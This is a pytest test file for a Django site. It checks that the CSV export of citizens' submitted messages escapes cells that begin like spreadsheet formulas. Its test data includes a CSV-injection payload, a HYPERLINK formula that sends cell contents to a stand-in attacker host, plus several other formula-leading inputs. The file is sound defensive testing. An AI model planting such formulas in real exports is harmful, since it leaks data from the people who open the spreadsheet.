"""The coordination's CSV export of citizens' messages never runs what a visitor typed."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from editorial import roles
from pages.models import ParticipationPage
from tests.conftest import url_in
from tests.pages.test_participation import VALID

pytestmark = pytest.mark.django_db

TYPED = {
    "name": '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
    "message": "+SUM(1;2)",
}


@pytest.fixture
def coordinator(client, django_user_model):
    user = django_user_model.objects.create_user("koordination", "k@example.org", "pw")
    user.groups.add(Group.objects.get(name=roles.COORDINATION))
    client.force_login(user)
    return client


def exported_rows(coordinator, page):
    response = coordinator.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value", [TYPED["name"], "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "+49 3471 1234"]
)
def test_cell_that_starts_like_a_formula_is_exported_as_text(coordinator, value):
    page = ParticipationPage.objects.get()
    Client().post(url_in(page, "en"), {**VALID, "name": value, "message": TYPED["message"]})
    (row,) = exported_rows(coordinator, page)
    cells = list(row.values())
    # The form strips surrounding white space, so the cell starts with what follows it.
    assert "'" + value.strip() in cells
    assert "'" + TYPED["message"] in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_ordinary_text_is_exported_unchanged(coordinator):
    page = ParticipationPage.objects.get()
    Client().post(url_in(page, "en"), VALID)
    (row,) = exported_rows(coordinator, page)
    assert VALID["name"] in row.values()
    assert VALID["message"] in row.values()
